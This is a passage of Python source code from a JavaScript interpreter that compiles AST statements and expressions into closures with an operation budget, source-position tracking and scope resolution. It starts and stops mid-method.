                _compile_function_node(statement.function, self.scope)
                plan.append((True, statement.function,
                             statement.function.name))
            elif isinstance(statement, ast.VariableDeclaration) \
                    and statement.kind == "var":
                for name, _ in statement.declarations:
                    plan.append((False, None, name))
        return tuple(plan)

    # -- statements --------------------------------------------------------
    def _c_ExpressionStatement(self, node: ast.ExpressionStatement):
        expression = self._expr(node.expression)
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            return expression(rt, scope)
        return run

    def _c_VariableDeclaration(self, node: ast.VariableDeclaration):
        kind = node.kind
        declarations = tuple(
            (name, self._expr(init) if init is not None else None)
            for name, init in node.declarations)
        line, column = node.line, node.column

        if kind == "var" and len(declarations) == 1 \
                and self.scope.function_scope:
            # The overwhelmingly common case: one var declared directly
            # in a function/program scope — the nearest function scope
            # is the current scope itself.
            name, init = declarations[0]

            def run(rt, scope):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                scope.variables[name] = init(rt, scope) \
                    if init is not None else UNDEFINED
                return UNDEFINED
            return run

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            for name, init in declarations:
                value = init(rt, scope) if init is not None else UNDEFINED
                scope.declare(name, value, kind)
            return UNDEFINED
        return run

    def _c_FunctionDeclaration(self, node: ast.FunctionDeclaration):
        fn_node = node.function
        name = fn_node.name
        _compile_function_node(fn_node, self.scope)
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            # Re-declare on execution (a fresh function object each
            # time), exactly like the walker.
            scope.declare(name, ScriptFunction(fn_node, scope, rt))
            return UNDEFINED
        return run

    def _c_BlockStatement(self, node: ast.BlockStatement, tick: bool = True):
        outer = self.scope
        self.scope = _block_static_scope(outer, node.body)
        try:
            hoist_plan = self._hoist_plan(node.body)
            statements = tuple(self._stmt(s) for s in node.body)
        finally:
            self.scope = outer
        line, column = node.line, node.column

        if not tick:
            # Catch blocks run through _exec_BlockStatement directly,
            # without an execute() tick for the block node itself.
            def run_no_tick(rt, scope):
                inner = Scope(parent=scope)
                if hoist_plan:
                    _run_hoist(hoist_plan, rt, inner)
                result = UNDEFINED
                for statement in statements:
                    result = statement(rt, inner)
                return result
            return run_no_tick

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            inner = Scope(parent=scope)
            if hoist_plan:
                _run_hoist(hoist_plan, rt, inner)
            result = UNDEFINED
            for statement in statements:
                result = statement(rt, inner)
            return result
        return run

    def _c_IfStatement(self, node: ast.IfStatement):
        test = self._expr(node.test)
        consequent = self._stmt(node.consequent)
        alternate = self._stmt(node.alternate) \
            if node.alternate is not None else None
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            if js_truthy(test(rt, scope)):
                return consequent(rt, scope)
            if alternate is not None:
                return alternate(rt, scope)
            return UNDEFINED
        return run

    def _c_WhileStatement(self, node: ast.WhileStatement):
        test = self._expr(node.test)
        body = self._stmt(node.body)
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            while js_truthy(test(rt, scope)):
                try:
                    body(rt, scope)
                except _Break:
                    break
                except _Continue:
                    continue
            return UNDEFINED
        return run

    def _c_DoWhileStatement(self, node: ast.DoWhileStatement):
        body = self._stmt(node.body)
        test = self._expr(node.test)
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            while True:
                try:
                    body(rt, scope)
                except _Break:
                    break
                except _Continue:
                    pass
                if not js_truthy(test(rt, scope)):
                    break
            return UNDEFINED
        return run

    def _c_ForStatement(self, node: ast.ForStatement):
        outer = self.scope
        init_body = [node.init] if node.init is not None else []
        loop_static = _StaticScope(outer)
        loop_static.maybe, loop_static.consts = _direct_lets(init_body)
        self.scope = loop_static
        try:
            init = self._stmt(node.init) if node.init is not None else None
            test = self._expr(node.test) if node.test is not None else None
            update = self._expr(node.update) \
                if node.update is not None else None
            body = self._stmt(node.body)
        finally:
            self.scope = outer
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            loop_scope = Scope(parent=scope)
            if init is not None:
                init(rt, loop_scope)
            while test is None or js_truthy(test(rt, loop_scope)):
                try:
                    body(rt, loop_scope)
                except _Break:
                    break
                except _Continue:
                    pass
                if update is not None:
                    update(rt, loop_scope)
            return UNDEFINED
        return run

    def _c_ForInStatement(self, node: ast.ForInStatement):
        outer = self.scope
        loop_static = _StaticScope(outer)
        if node.kind in ("let", "const"):
            loop_static.maybe = {node.name}
            if node.kind == "const":
                loop_static.consts = {node.name}
        self.scope = loop_static
        try:
            target = self._expr(node.object)
            body = self._stmt(node.body)
        finally:
            self.scope = outer
        kind = node.kind
        name = node.name
        of = node.of
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            loop_scope = Scope(parent=scope)
            obj = target(rt, loop_scope)
            if kind:
                loop_scope.declare(name, UNDEFINED, kind)
            items = rt._iterate_values(obj) if of else rt._iterate_keys(obj)
            for item in items:
                rt._assign_identifier(name, item, loop_scope)
                try:
                    body(rt, loop_scope)
                except _Break:
                    break
                except _Continue:
                    continue
            return UNDEFINED
        return run

    def _c_ReturnStatement(self, node: ast.ReturnStatement):
        argument = self._expr(node.argument) \
            if node.argument is not None else None
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            raise _Return(argument(rt, scope)
                          if argument is not None else UNDEFINED)
        return run

    def _c_BreakStatement(self, node: ast.BreakStatement):
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            raise _Break()
        return run

    def _c_ContinueStatement(self, node: ast.ContinueStatement):
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            raise _Continue()
        return run

    def _c_ThrowStatement(self, node: ast.ThrowStatement):
        argument = self._expr(node.argument)
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            raise JSError(argument(rt, scope))
        return run

    def _c_TryStatement(self, node: ast.TryStatement):
        block = self._stmt(node.block)
        catch_block = None
        if node.catch_block is not None:
            outer = self.scope
            # The runtime catch scope never holds bindings itself: the
            # param declare (kind 'var') hoists past it to the nearest
            # function scope. It still occupies one hop in the chain.
            self.scope = _StaticScope(outer)
            try:
                catch_block = self._c_BlockStatement(node.catch_block,
                                                     tick=False)
            finally:
                self.scope = outer
        finally_block = self._stmt(node.finally_block) \
            if node.finally_block is not None else None
        catch_param = node.catch_param
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            try:
                block(rt, scope)
            except JSError as exc:
                if catch_block is not None:
                    catch_scope = Scope(parent=scope)
                    if catch_param:
                        catch_scope.declare(catch_param, exc.value)
                    catch_block(rt, catch_scope)
            finally:
                if finally_block is not None:
                    finally_block(rt, scope)
            return UNDEFINED
        return run

    def _c_SwitchStatement(self, node: ast.SwitchStatement):
        discriminant = self._expr(node.discriminant)
        outer = self.scope
        switch_static = _StaticScope(outer)
        lets: set = set()
        consts: set = set()
        for case in node.cases:
            case_lets, case_consts = _direct_lets(case.body)
            lets |= case_lets
            consts |= case_consts
        switch_static.maybe = lets
        switch_static.consts = consts
        self.scope = switch_static
        try:
            cases = tuple(
                (self._expr(case.test) if case.test is not None else None,
                 tuple(self._stmt(s) for s in case.body))
                for case in node.cases)
        finally:
            self.scope = outer
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            value = discriminant(rt, scope)
            switch_scope = Scope(parent=scope)
            start_index = None
            default_index = None
            for index, (test, _) in enumerate(cases):
                if test is None:
                    default_index = index
                    continue
                if js_strict_equals(value, test(rt, switch_scope)):
                    start_index = index
                    break
            if start_index is None:
                start_index = default_index
            if start_index is None:
                return UNDEFINED
            try:
                for _, body in cases[start_index:]:
                    for statement in body:
                        statement(rt, switch_scope)
            except _Break:
                pass
            return UNDEFINED
        return run

    def _c_EmptyStatement(self, node: ast.EmptyStatement):
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            return UNDEFINED
        return run

    # -- expressions -------------------------------------------------------
    def _c_constant(self, node: ast.Node, value: Any):
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            return value
        return run

    def _c_NumberLiteral(self, node: ast.NumberLiteral):
        return self._c_constant(node, node.value)

    def _c_StringLiteral(self, node: ast.StringLiteral):
        return self._c_constant(node, node.value)

    def _c_BooleanLiteral(self, node: ast.BooleanLiteral):
        return self._c_constant(node, node.value)

    def _c_NullLiteral(self, node: ast.NullLiteral):
        return self._c_constant(node, NULL)

    def _c_UndefinedLiteral(self, node: ast.UndefinedLiteral):
        return self._c_constant(node, UNDEFINED)

    def _c_ThisExpression(self, node: ast.ThisExpression):
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            this = rt.current_this
            if this is UNDEFINED or this is None:
                global_object = rt.global_object
                return global_object if global_object is not None \
                    else UNDEFINED
            return this
        return run

    def _c_Identifier(self, node: ast.Identifier):
        name = node.name
        line, column = node.line, node.column
        hops = _resolve_static(self.scope, name)

        if hops == 0:
            def run(rt, scope):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                return scope.variables[name]
            return run

        if hops == 1:
            def run(rt, scope):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                return scope.parent.variables[name]
            return run

        if hops is not None:
            def run(rt, scope):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                holder = scope
                for _ in range(hops):
                    holder = holder.parent
                return holder.variables[name]
            return run

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            holder = scope
            while holder is not None:
                value = holder.variables.get(name, _MISSING)
                if value is not _MISSING:
                    return value
                holder = holder.parent
            global_object = rt.global_object
            if global_object is not None \
                    and global_object.has_property(name):
                return global_object.get(name, rt)
            rt.throw("ReferenceError", f"{name} is not defined")
        return run

    def _c_ArrayLiteral(self, node: ast.ArrayLiteral):
        elements = tuple(self._expr(e) for e in node.elements)
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            realm = rt.realm
            return JSArray([element(rt, scope) for element in elements],
                           proto=realm.array_prototype if realm else None)
        return run

    def _c_ObjectLiteral(self, node: ast.ObjectLiteral):
        entries = tuple((key, self._expr(value))
                        for key, value in node.entries)
        accessors = tuple(node.accessors)
        for _, _, fn_node in accessors:
            _compile_function_node(fn_node, self.scope)
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            realm = rt.realm
            obj = JSObject(proto=realm.object_prototype if realm else None)
            for key, value in entries:
                obj.put(key, value(rt, scope))
            for key, accessor_kind, fn_node in accessors:
                fn = ScriptFunction(fn_node, scope, rt)
                existing = obj.get_own_descriptor(key)
                if existing is not None and existing.is_accessor:
                    descriptor = existing
                else:
                    descriptor = PropertyDescriptor.accessor()
                    obj.properties[key] = descriptor
                if accessor_kind == "get":
                    descriptor.get = fn
                else:
                    descriptor.set = fn
            return obj
        return run

    def _c_FunctionExpression(self, node: ast.FunctionExpression):
        _compile_function_node(node, self.scope)
        is_arrow = node.is_arrow
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            captured = rt.current_this if is_arrow else None
            return ScriptFunction(node, scope, rt, captured_this=captured)
        return run

    def _c_MemberExpression(self, node: ast.MemberExpression):
        target = self._expr(node.object)
        line, column = node.line, node.column

        if not node.computed:
            name = node.property

            def run(rt, scope):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                obj = target(rt, scope)
                if isinstance(obj, JSObject):
                    value = obj.get(name, rt)
                    hook = rt.access_hook
                    if hook is not None:
                        hook("get", obj, name, value)
                    return value
                return rt.get_member(obj, name)
            return run

        prop = self._expr(node.property)

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            obj = target(rt, scope)
            key = prop(rt, scope)
            name = key if type(key) is str else rt.to_string(key)
            if isinstance(obj, JSObject):
                value = obj.get(name, rt)
                hook = rt.access_hook
                if hook is not None:
                    hook("get", obj, name, value)
                return value
            return rt.get_member(obj, name)
        return run

    def _c_CallExpression(self, node: ast.CallExpression):
        arguments = tuple(self._expr(a) for a in node.arguments)
        line, column = node.line, node.column

        if isinstance(node.callee, ast.MemberExpression):
            callee = node.callee
            target = self._expr(callee.object)
            computed = callee.computed
            prop = self._expr(callee.property) if computed else None
            static_name = None if computed else callee.property

            def run(rt, scope):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                this = target(rt, scope)
                if computed:
                    key = prop(rt, scope)
                    name = key if type(key) is str else rt.to_string(key)
                else:
                    name = static_name
                if isinstance(this, JSObject):
                    fn = this.get(name, rt)
                    hook = rt.access_hook
                    if hook is not None:
                        hook("get", this, name, fn)
                else:
                    fn = rt.get_member(this, name)
                if not isinstance(fn, JSFunction):
                    rt.throw("TypeError", f"{name} is not a function")
                args = [argument(rt, scope) for argument in arguments]
                hook = rt.access_hook
                if hook is not None and isinstance(this, JSObject):
                    hook("call", this, name, args)
                return fn.call(rt, this, args)
            return run

        callee = self._expr(node.callee)
        callee_name = getattr(node.callee, "name", "expression") \
            or "expression"

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            fn = callee(rt, scope)
            if not isinstance(fn, JSFunction):
                rt.throw("TypeError", f"{callee_name} is not a function")
            args = [argument(rt, scope) for argument in arguments]
            return fn.call(rt, UNDEFINED, args)
        return run

    def _c_NewExpression(self, node: ast.NewExpression):
        callee = self._expr(node.callee)
        arguments = tuple(self._expr(a) for a in node.arguments)
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            constructor = callee(rt, scope)
            if not isinstance(constructor, JSFunction):
                rt.throw("TypeError", "not a constructor")
            args = [argument(rt, scope) for argument in arguments]
            try:
                return constructor.construct(rt, args)
            except NotImplementedError:
                rt.throw("TypeError",
                         f"{constructor.function_name or 'value'} "
                         "is not a constructor")
        return run

    def _c_UnaryExpression(self, node: ast.UnaryExpression):
        op = node.op
        line, column = node.line, node.column

        if op == "typeof":
            operand = self._expr(node.operand)
            if isinstance(node.operand, ast.Identifier):
                name = node.operand.name

                def run(rt, scope):
                    rt._ops_left = left = rt._ops_left - 1
                    if left < 0:
                        rt._budget_error()
                    stack = rt.call_stack
                    if stack:
                        frame = stack[-1]
                        frame.line = line
                        frame.column = column
                    # typeof never throws on unresolved identifiers.
                    if scope.resolve(name) is None:
                        global_object = rt.global_object
                        if global_object is None \
                                or not global_object.has_property(name):
                            return "undefined"
                    return js_typeof(operand(rt, scope))
                return run

            def run(rt, scope):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                return js_typeof(operand(rt, scope))
            return run

        if op == "delete":
            if isinstance(node.operand, ast.MemberExpression):
                member = node.operand
                target = self._expr(member.object)
                computed = member.computed
                prop = self._expr(member.property) if computed else None
                static_name = None if computed else member.property

                def run(rt, scope):
                    rt._ops_left = left = rt._ops_left - 1
                    if left < 0:
                        rt._budget_error()
                    stack = rt.call_stack
                    if stack:
                        frame = stack[-1]
                        frame.line = line
                        frame.column = column
                    obj = target(rt, scope)
                    if computed:
                        key = prop(rt, scope)
                        name = key if type(key) is str else rt.to_string(key)
                    else:
                        name = static_name
                    if isinstance(obj, JSObject):
                        return obj.delete_property(name)
                    return True
                return run
            return self._c_constant(node, False)

        operand = self._expr(node.operand)

        if op == "void":
            def run(rt, scope):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                operand(rt, scope)
                return UNDEFINED
            return run

        if op == "!":
            def run(rt, scope):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                return not js_truthy(operand(rt, scope))
            return run

        if op == "-":
            def run(rt, scope):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                value = operand(rt, scope)
                return -value if type(value) is float \
                    else -rt.to_number(value)
            return run

        if op == "+":
            def run(rt, scope):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                value = operand(rt, scope)
                return value if type(value) is float \
                    else rt.to_number(value)
            return run

        if op == "~":
            from repro.jsengine.interpreter import _to_int32

            def run(rt, scope):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                return float(~_to_int32(rt.to_number(operand(rt, scope))))
            return run

        raise NotImplementedError(f"unary operator {op}")

    def _c_UpdateExpression(self, node: ast.UpdateExpression):
        increment = node.op == "++"
        prefix = node.prefix
        line, column = node.line, node.column
        target = node.target

        if isinstance(target, ast.Identifier):
            name = target.name
            hops = _resolve_static(self.scope, name, for_write=True)

            if hops is not None:
                def run(rt, scope):
                    rt._ops_left = left = rt._ops_left - 1
                    if left < 0:
                        rt._budget_error()
                    stack = rt.call_stack
                    if stack:
                        frame = stack[-1]
                        frame.line = line
                        frame.column = column
                    holder = scope
                    for _ in range(hops):
                        holder = holder.parent
                    variables = holder.variables
                    old = variables[name]
                    if type(old) is float:
                        new = old + 1.0 if increment else old - 1.0
                        variables[name] = new
                        return new if prefix else old
                    # Coercion may run user code; fall back to the full
                    # read-coerce-reresolve-write sequence.
                    old = rt.to_number(old)
                    new = old + 1.0 if increment else old - 1.0
                    rt._assign_identifier(name, new, scope)
                    return new if prefix else old
                return run

            def run(rt, scope):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                # _read_target calls _eval_Identifier directly (no
                # second tick for the target node).
                holder = scope
                old = _MISSING
                while holder is not None:
                    old = holder.variables.get(name, _MISSING)
                    if old is not _MISSING:
                        break
                    holder = holder.parent
                if old is _MISSING:
                    global_object = rt.global_object
                    if global_object is not None \
                            and global_object.has_property(name):
                        old = global_object.get(name, rt)
                    else:
                        rt.throw("ReferenceError",
                                 f"{name} is not defined")
                if type(old) is not float:
                    old = rt.to_number(old)
                new = old + 1.0 if increment else old - 1.0
                rt._assign_identifier(name, new, scope)
                return new if prefix else old
            return run

        if isinstance(target, ast.MemberExpression):
            obj_expr = self._expr(target.object)
            computed = target.computed
            prop = self._expr(target.property) if computed else None
            static_name = None if computed else target.property

            def run(rt, scope):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                # Read: _eval_MemberExpression without its own tick
                # (the object sub-expression still ticks).
                obj = obj_expr(rt, scope)
                if computed:
                    key = prop(rt, scope)
                    name = key if type(key) is str else rt.to_string(key)
                else:
                    name = static_name
                if isinstance(obj, JSObject):
                    old = obj.get(name, rt)
                    hook = rt.access_hook
                    if hook is not None:
                        hook("get", obj, name, old)
                else:
                    old = rt.get_member(obj, name)
                old = rt.to_number(old)
                new = old + 1.0 if increment else old - 1.0
                # Write: _write_target re-evaluates object and key.
                obj = obj_expr(rt, scope)
                if computed:
                    key = prop(rt, scope)
                    name = key if type(key) is str else rt.to_string(key)
                rt.set_member(obj, name, new)
                return new if prefix else old
            return run

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            rt.throw("SyntaxError", "invalid update target")
        return run

    def _c_BinaryExpression(self, node: ast.BinaryExpression):
        op = node.op
        left_expr = self._expr(node.left)
        right_expr = self._expr(node.right)
        line, column = node.line, node.column

        if op == "+":
            def run(rt, scope):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                lhs = left_expr(rt, scope)
                rhs = right_expr(rt, scope)
                lhs_type = type(lhs)
                if lhs_type is type(rhs) and (lhs_type is float
                                              or lhs_type is str):
                    return lhs + rhs
                return rt.apply_binary("+", lhs, rhs)
            return run

        if op in ("-", "*"):
            sub = op == "-"

            def run(rt, scope):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                lhs = left_expr(rt, scope)
                rhs = right_expr(rt, scope)
                if type(lhs) is float and type(rhs) is float:
                    return lhs - rhs if sub else lhs * rhs
                return rt.apply_binary(op, lhs, rhs)
            return run

        if op == "/":
            def run(rt, scope):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                lhs = left_expr(rt, scope)
                rhs = right_expr(rt, scope)
                if type(lhs) is float and type(rhs) is float and rhs != 0:
                    return lhs / rhs
                return rt.apply_binary("/", lhs, rhs)
            return run

        if op == "%":
            def run(rt, scope):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                lhs = left_expr(rt, scope)
                rhs = right_expr(rt, scope)
                if type(lhs) is float and type(rhs) is float:
                    # x != x is the NaN test; mirrors apply_binary "%".
                    if rhs == 0 or lhs != lhs or rhs != rhs:
                        return _math_nan
                    return _math_fmod(lhs, rhs)
                return rt.apply_binary("%", lhs, rhs)
            return run

        if op in ("<", ">", "<=", ">="):
            def run(rt, scope, _op=op):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                lhs = left_expr(rt, scope)
                rhs = right_expr(rt, scope)
                if type(lhs) is float and type(rhs) is float:
                    # Python comparisons on NaN are False, matching the
                    # walker's explicit isnan handling.
                    if _op == "<":
                        return lhs < rhs
                    if _op == ">":
                        return lhs > rhs
                    if _op == "<=":
                        return lhs <= rhs
                    return lhs >= rhs
                return rt.apply_binary(_op, lhs, rhs)
            return run

        if op in ("==", "!=", "===", "!=="):
            strict = op in ("===", "!==")
            negate = op in ("!=", "!==")

            def run(rt, scope):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                lhs = left_expr(rt, scope)
                rhs = right_expr(rt, scope)
                result = js_strict_equals(lhs, rhs) if strict \
                    else js_equals(lhs, rhs)
                return not result if negate else result
            return run

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            return rt.apply_binary(op, left_expr(rt, scope),
                                   right_expr(rt, scope))
        return run

    def _c_LogicalExpression(self, node: ast.LogicalExpression):
        left_expr = self._expr(node.left)
        right_expr = self._expr(node.right)
        conjunction = node.op == "&&"
        line, column = node.line, node.column

        def run(rt, scope):
            rt._ops_left = left = rt._ops_left - 1
            if left < 0:
                rt._budget_error()
            stack = rt.call_stack
            if stack:
                frame = stack[-1]
                frame.line = line
                frame.column = column
            value = left_expr(rt, scope)
            if conjunction:
                return right_expr(rt, scope) if js_truthy(value) else value
            return value if js_truthy(value) else right_expr(rt, scope)
        return run

    def _c_AssignmentExpression(self, node: ast.AssignmentExpression):
        op = node.op
        value_expr = self._expr(node.value)
        line, column = node.line, node.column
        target = node.target
        compound = op != "="
        binary_op = op[:-1] if compound else None

        if isinstance(target, ast.Identifier):
            name = target.name
            hops = _resolve_static(self.scope, name, for_write=True)

            if hops is not None and not compound:
                def run(rt, scope):
                    rt._ops_left = left = rt._ops_left - 1
                    if left < 0:
                        rt._budget_error()
                    stack = rt.call_stack
                    if stack:
                        frame = stack[-1]
                        frame.line = line
                        frame.column = column
                    value = value_expr(rt, scope)
                    holder = scope
                    for _ in range(hops):
                        holder = holder.parent
                    holder.variables[name] = value
                    return value
                return run

            if hops is not None:
                def run(rt, scope):
                    rt._ops_left = left = rt._ops_left - 1
                    if left < 0:
                        rt._budget_error()
                    stack = rt.call_stack
                    if stack:
                        frame = stack[-1]
                        frame.line = line
                        frame.column = column
                    holder = scope
                    for _ in range(hops):
                        holder = holder.parent
                    current = holder.variables[name]
                    rhs = value_expr(rt, scope)
                    if binary_op == "+" and type(current) is float \
                            and type(rhs) is float:
                        value = current + rhs
                    else:
                        value = rt.apply_binary(binary_op, current, rhs)
                    # The write re-resolves in the walker; the rhs may
                    # have shadowed the binding in a nearer scope.
                    rt._assign_identifier(name, value, scope)
                    return value
                return run

            def run(rt, scope):
                rt._ops_left = left = rt._ops_left - 1
                if left < 0:
                    rt._budget_error()
                stack = rt.call_stack
                if stack:
                    frame = stack[-1]
                    frame.line = line
                    frame.column = column
                if compound:
                    # _read_target -> _eval_Identifier (no extra tick).
                    holder = scope
                    current = _MISSING
                    while holder is not None:
                        current = holder.variables.get(name, _MISSING)
                        if current is not _MISSING:
                            break
                        holder = holder.parent
                    if current is _MISSING:
                        global_object = rt.global_object
                        if global_object is not None \
                                and global_object.has_property(name):
                            current = global_object.get(name, rt)
                        else:
                            rt.throw("ReferenceError",
                                     f"{name} is not defined")
